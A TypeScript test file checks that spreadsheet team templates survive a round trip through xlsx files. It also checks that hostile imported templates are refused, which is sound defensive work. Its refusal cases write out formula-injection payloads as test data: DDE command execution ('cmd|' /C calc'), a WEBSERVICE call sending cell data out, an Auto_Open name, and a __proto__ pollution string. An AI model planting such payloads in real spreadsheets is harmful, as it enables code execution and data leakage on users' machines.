import { decode } from "../../src/files/xlsx/decode";
import { encodePlan } from "../../src/files/xlsx/encode-plan";
import { sheetToPlan } from "../../src/files/xlsx/to-plan/sheet-to-plan";
import type { Lang } from "../../src/core/lang";
import { readIdentity } from "../../src/plan/sheet-identity";
import { cellArea, contains } from "../../src/plan/area";
import { isSameFormula } from "../../src/plan/standing/written-now";
import type { PlanCell, SheetPlan } from "../../src/plan/sheet-plan";
import { withoutSamples } from "../../src/plan/without-samples";
import { NOTHING_TAKEN } from "../../src/plan/taken-names";
import { TeamTemplateError, type RefusalKey } from "../../src/teams/templates/refusal";
import { renderTeamTemplate } from "../../src/teams/templates/render-team-template";
import { saveAsTemplate } from "../../src/teams/templates/save-as-template";
import { readTeamTemplate, writeTeamTemplate } from "../../src/teams/templates/template-file";
import { refusalLines } from "../../src/teams/templates/template-words";
import { openTemplate } from "../../src/templates/define";
import { TEMPLATES } from "../../src/templates/registry";
import { renderTemplate } from "../../src/templates/render";

const DAY = 46_000;

async function planned(id: string, lang: Lang): Promise<SheetPlan> {
  const definition = TEMPLATES.find((one) => one.id === id);
  if (!definition) throw new Error(id);
  return renderTemplate(await openTemplate(definition, lang), { taken: NOTHING_TAKEN, today: DAY });
}

/** A plan through a file and through a template's file, as another person of the team has it. */
async function throughTeam(base: SheetPlan, taken = NOTHING_TAKEN) {
  const [sheet] = (await decode(await encodePlan(base))).workbook.sheets;
  const identity = readIdentity(sheet?.properties?.[0]?.value);
  if (!sheet || !identity) throw new Error("The file has no sheet of ours");
  const { plan, left } = sheetToPlan(sheet, identity, base);
  const text = writeTeamTemplate(saveAsTemplate(plan, { name: "大促计划", summary: "" }));
  return { text, left, made: renderTeamTemplate(readTeamTemplate(text), { taken }) };
}

type Cells = ReadonlyMap<string, { readonly row: number; readonly column: number; readonly cell: PlanCell }>;

/** Cells by place, but for the one that says from which template a sheet is. */
const cellsOf = (plan: SheetPlan): Cells =>
  new Map(
    plan.blocks.flatMap((block) =>
      block.cells.flatMap((line, down) =>
        line.flatMap((cell, across) => {
          const [row, column] = [block.row + down, block.column + across];
          if (cell === null || (typeof cell === "string" && /team-|^(?:模板|Template) /.test(cell))) return [];
          return [[`${row}:${column}`, { row, column, cell }] as const];
        }),
      ),
    ),
  );

const textOf = (cell: PlanCell | undefined): unknown => (typeof cell === "object" && cell !== null ? cell.formula : cell);

/** Places at which two plans hold different things; files spell formulas in ways of their own. */
function differences(one: SheetPlan, other: SheetPlan): readonly string[] {
  const [mine, theirs] = [cellsOf(one), cellsOf(other)];
  return [...new Set([...mine.keys(), ...theirs.keys()])].filter((place) => {
    const at = mine.get(place) ?? theirs.get(place);
    const [a, b] = [textOf(mine.get(place)?.cell), textOf(theirs.get(place)?.cell)];
    const own = at && one.tables.find(({ area }) => contains(area, cellArea(at.row, at.column)))?.name;
    return a !== b && !(typeof b === "string" && isSameFormula(a, b, own));
  });
}

test.each([
  ["campaign-plan", "zh-CN"],
  ["store-daily", "en"],
  ["ops-plan", "zh-CN"],
  ["experiment", "en"],
] as const)("%s in %s comes back from a file of the team cell by cell", async (id, lang) => {
  const base = await planned(id, lang);
  const { made, left } = await throughTeam(base);
  expect(left).toEqual({});
  expect(differences(base, made)).toEqual([]);
  expect(made.tables.map(({ columns, key, columnKeys, area }) => ({ columns, key, columnKeys, area }))).toEqual(
    base.tables.map(({ columns, key, columnKeys, area }) => ({ columns, key, columnKeys, area })),
  );
  expect(made.charts).toEqual(base.charts);
  expect(made.validations.length).toBe(base.validations.length);
  expect(made.conditionals.length).toBe(base.conditionals.length);
  expect(made.names.map(({ name }) => name).sort()).toEqual(base.names.map(({ name }) => name).sort());
  // Clearing the samples leaves what it left of the template of ours.
  expect(differences(withoutSamples(base), withoutSamples(made))).toEqual([]);
});

test("beside a sheet of the same plan its tables get free names, and its formulas speak of these", async () => {
  const base = await planned("experiment", "en");
  const { made } = await throughTeam(base, { sheets: ["大促计划"], tables: base.tables.map(({ name }) => name) });
  expect(made.sheetName).toBe("大促计划 2");
  expect(made.tables.map(({ name }) => name)).toEqual(base.tables.map(({ name }) => `${name}_2`));
  const said = [...cellsOf(made).values()].map(({ cell }) => textOf(cell)).join("\n");
  expect(said).toContain("experiment_daily_2[Visitors A]");
  expect(said).not.toMatch(/experiment_daily\[/);
});

describe("a template from outside", () => {
  let source: Record<string, unknown>;
  beforeAll(async () => {
    source = JSON.parse((await throughTeam(await planned("sales-target", "en"))).text) as Record<string, unknown>;
  });
  type Sheet = Record<string, unknown[]> & { blocks: { at: string; cells: unknown[][] }[] };
  const changed = (change: (file: Record<string, unknown>, sheet: Sheet) => void): string => {
    const file = structuredClone(source);
    change(file, file["sheet"] as Sheet);
    return JSON.stringify(file);
  };
  const refusals = (text: string) => {
    try {
      readTeamTemplate(text);
    } catch (error) {
      if (error instanceof TeamTemplateError) return error.refusals;
      throw error;
    }
    return [];
  };
  const withCell = (cell: unknown) => changed((_file, { blocks }) => void blocks.push({ at: "IV1", cells: [[cell]] }));
  const withFormula = (formula: string) => withCell({ formula });

  const HOSTILE: readonly (readonly [string, RefusalKey, () => string])[] = [
    ["links to another workbook", "externalLink", () => withFormula("='https://example.com/[plan.xlsx]Sheet1'!A1")],
    ["links to another workbook by number", "externalLink", () => withFormula("=[1]Sheet1!A1")],
    ["speaks of a sheet it does not have", "otherSheet", () => withFormula("=Salaries!B2")],
    ["starts a program by DDE", "dde", () => withFormula("=cmd|' /C calc'!A0")],
    ["calls WEBSERVICE", "reachesOut", () => withFormula('=WEBSERVICE("https://example.com/?"&A1)')],
    ["calls WEBSERVICE as files spell it", "reachesOut", () => withFormula('=_xlfn.WEBSERVICE("https://example.com")')],
    ["makes references of texts", "reachesOut", () => withFormula('=INDIRECT("A"&1)')],
    ["calls what not every Excel has", "notShared", () => withFormula("=LAMBDA(x,x)(1)")],
    ["holds DDE as a text", "formulaAsText", () => withCell("@cmd|' /C calc'!A0")],
    ["holds a formula as a text", "formulaAsText", () => withCell("=1+1")],
    [
      "offers a formula as an entry of a list",
      "formulaAsText",
      () =>
        changed(({ sheet }) => {
          const { validations } = sheet as { validations: { rule: unknown }[] };
          const [first] = validations;
          if (first) first.rule = { kind: "list", values: ["=A1"] };
        }),
    ],
    [
      "formats by a function that reaches out",
      "reachesOut",
      () =>
        changed(
          (_file, { conditionals }) =>
            void conditionals?.push({ area: "A1", rule: { kind: "formula", formula: '=RTD("x","","y")', style: "title" } }),
        ),
    ],
    ["has a name of ours", "shadows", () => changed((_file, { names }) => void names?.push({ name: "OPS_LTV", area: "A1" }))],
    ["has a name that Excel runs", "shadows", () => changed((_file, { names }) => void names?.push({ name: "Auto_Open", area: "A1" }))],
    ["has the id of a template of ours", "shadows", () => changed((file) => void (file["id"] = "campaign-plan"))],
    ["was saved by a newer version", "newer", () => changed((file) => void (file["formatVersion"] = 2))],
    ["is something else", "notOurs", () => JSON.stringify({ name: "package" })],
    ["is no JSON", "notOurs", () => "{"],
    [
      "has a million cells",
      "tooLarge",
      () =>
        changed(
          (_file, { blocks }) =>
            void blocks.push({ at: "A1000", cells: Array.from({ length: 4000 }, () => Array.from({ length: 250 }, () => 1)) }),
        ),
    ],
    [
      "formats a million cells",
      "tooLarge",
      () => changed((_file, { styles }) => void styles?.push(...Array.from({ length: 2 }, () => ({ area: "A1:IV4000", look: 0 })))),
    ],
    ["reaches beyond all rows", "tooLarge", () => changed((_file, { merges }) => void merges?.push("A1:A1048576"))],
    [
      "has a text where a number belongs",
      "malformed",
      () => changed((_file, { rows }) => void rows?.push({ at: 1, count: 1, height: "12" })),
    ],
    ["has a look that is not there", "malformed", () => changed((_file, { styles }) => void styles?.push({ area: "A1", look: 999 }))],
    ["speaks of a name it does not have", "excel", () => withFormula("=unheard_of*2")],
  ];
  test.each(HOSTILE)("that %s is refused (%s), with the reason in both languages", (_what, key, text) => {
    const found = refusals(text());
    expect([...new Set(found.map((one) => one.key))]).toEqual([key]);
    const [english] = refusalLines(found, "en");
    const [chinese] = refusalLines(found, "zh-CN");
    expect(english).toMatch(/\.$/);
    expect(chinese).toMatch(/[\u4e00-\u9fff].*。$/s);
  });

  test("as it was saved is taken, and what it says beside is passed over", () => {
    expect(refusals(JSON.stringify({ ...source, macros: "Auto_Open" }))).toEqual([]);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(refusals(JSON.stringify(source).replace('"anchors":{', '"anchors":{"__proto__":{"polluted":1},')).map(({ key }) => key)).toEqual(
      ["malformed"],
    );
  });

  test("may call functions of ours, and pays for no reference more than for its cells", () => {
    expect(refusals(withFormula("=OPS.BREAKEVEN_ROI(0.4)"))).toEqual([]);
    // Each looks over 200,000 cells; looked at one by one they would be a thousand million.
    const many = changed(
      (_file, { blocks }) =>
        void blocks.push({ at: "A1000", cells: Array.from({ length: 4000 }, (_, at) => [{ formula: `=SUM($C$${at + 2}:$IV$999)` }]) }),
    );
    expect(new Set(refusals(many).map(({ key }) => key))).toEqual(new Set(["excel"]));
  });
});
